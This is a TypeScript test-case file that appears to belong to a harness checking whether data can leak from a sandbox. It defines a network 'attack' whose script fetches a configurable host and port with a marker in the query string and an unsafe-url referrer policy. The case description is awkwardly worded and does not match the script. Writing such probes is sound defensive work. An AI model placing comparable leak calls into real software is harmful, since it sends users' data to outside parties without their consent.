import {defineAttack} from '../../attack.ts';

export const attack = defineAttack({
  kind: 'network',
  tries: 'Data in the user of an address.',
  script: `await fetch(\`http://\${host}:\${port}/?\${mark}\`, {referrer: '', referrerPolicy: 'unsafe-url'});`,
});
